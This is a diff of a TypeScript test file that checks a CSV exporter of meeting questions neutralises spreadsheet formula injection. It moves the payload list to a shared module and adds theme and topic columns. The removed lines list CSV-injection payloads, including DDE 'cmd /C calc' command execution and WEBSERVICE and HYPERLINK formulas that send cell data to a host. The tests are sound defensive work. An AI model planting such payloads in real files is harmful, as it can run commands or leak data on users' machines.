@@ -7,45 +7,9 @@ import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { expect, onTestFinished, test } from 'vitest';
 import type { OrganisersQuestion } from '#contract/question/organisers-question.ts';
+import { BEGINS_FORMULA, FORMULA_PAYLOADS } from '#testing/formula-payloads.ts';
 import { cellText, type Separator } from '../../http/text/csv.ts';
 import { csvWriter, questionCells } from './question-csv.ts';
-
-/** What spreadsheets have been known to run (OWASP, CSV Injection), before and behind what may hide it. */
-const FORMULAS = [
-  '=1+1',
-  '+1+1',
-  '-1+1',
-  '@SUM(1;1)',
-  "=cmd|' /C calc'!A0",
-  '=HYPERLINK("https://example.com?"&A1;"here")',
-  '=WEBSERVICE("https://example.com/"&B2)',
-  '=DDE("cmd";"/C calc";"x")',
-  '＝1+1',
-  '＋1+1',
-  '－1+1',
-  '＠SUM(1)',
-];
-const BEFORE = [
-  '',
-  ' ',
-  '  ',
-  '\t',
-  '\r',
-  '\n',
-  '\u00a0',
-  '\ufeff',
-  '"',
-  '""',
-  'x;',
-  'x,',
-  'x\n',
-  'x";',
-  'x","',
-  'x\t',
-  'x\r\n',
-  ';;',
-];
-const PAYLOADS = BEFORE.flatMap((before) => FORMULAS.map((formula) => before + formula));
 
 const MEETING = { heldOn: '2026-12-03', timeZone: 'Europe/Paris' };
 
@@ -61,8 +25,8 @@ function questionWith(text: string): OrganisersQuestion {
     language: 'fr',
     receivedAt: new Date('2026-11-30T11:00:05.123Z'),
     age: null,
-    themeCode: null,
-    topic: null,
+    themeCode: 'climate',
+    topic: { id: '00000000-0000-4000-8000-000000000007', number: 7 },
     text,
     isRedacted: false,
     isOpened: false,
@@ -82,11 +46,11 @@ async function csvOf(texts: string[], separator: Separator): Promise<string> {
 }
 
 test('more than 200 payloads are tried', () => {
-  expect(PAYLOADS.length).toBeGreaterThan(200);
+  expect(FORMULA_PAYLOADS.length).toBeGreaterThan(200);
 });
 
-test.each(PAYLOADS)('%j does not begin a formula', (payload) => {
-  expect(cellText(payload)).not.toMatch(/(^|[,;\n])[\s"]*[=+\-@＝＋－＠]/);
+test.each(FORMULA_PAYLOADS)('%j does not begin a formula', (payload) => {
+  expect(cellText(payload)).not.toMatch(BEGINS_FORMULA);
 });
 
 test.each(['comma', 'semicolon'] as const)(
@@ -99,14 +63,14 @@ test.each(['comma', 'semicolon'] as const)(
       'a;b,c',
       'Œuvre d’été €',
       'bell\u0007 \u001b[31mred\u202e',
-      ...PAYLOADS,
+      ...FORMULA_PAYLOADS,
     ];
     const csv = await csvOf(texts, separator);
     expect(csv.startsWith('\ufeff"reference"')).toBe(true);
-    expect(csv.endsWith('"yes"\r\n')).toBe(true);
     const delimiter = separator === 'comma' ? ',' : ';';
+    expect(csv.endsWith(`"climate"${delimiter}"T26-07"\r\n`)).toBe(true);
     const [header, ...rows] = parse(csv, { bom: true, delimiter, record_delimiter: '\r\n' });
-    expect(header).toHaveLength(15);
+    expect(header).toHaveLength(17);
     expect(rows).toHaveLength(texts.length);
     expect(rows[0]).toEqual([
       '7K3F-9QXM',
@@ -124,6 +88,8 @@ test.each(['comma', 'semicolon'] as const)(
       'Plain',
       'FR',
       'yes',
+      'climate',
+      'T26-07',
     ]);
     expect(rows.slice(1, 6).map((row) => row[8])).toEqual([
       'two\nlines',
@@ -157,7 +123,7 @@ test('a question that is not sealed yet has an empty cell for its number', () =>
 });
 
 test('no question at all is a file with its header', async () => {
-  expect(await csvOf([], 'comma')).toMatch(/^\ufeff"reference",.*"financial e-mail"\r\n$/);
+  expect(await csvOf([], 'comma')).toMatch(/^\ufeff"reference",.*"topic"\r\n$/);
 });
 
 /** Sheets as LibreOffice keeps them: a formula has an attribute of its own. */
@@ -187,7 +153,7 @@ test.skipIf(!hasLibreOffice)(
     expect(sheetsReadBy(probe, ',', folder), 'the reading finds formulas').toContain('table:formula');
     for (const separator of ['comma', 'semicolon'] as const) {
       const file = join(folder, `${separator}.csv`);
-      writeFileSync(file, await csvOf(PAYLOADS, separator));
+      writeFileSync(file, await csvOf(FORMULA_PAYLOADS, separator));
       for (const readWith of [',', ';', '\t']) {
         expect(sheetsReadBy(file, readWith, folder), `${separator} read with ${readWith}`).not.toContain(
           'table:formula',
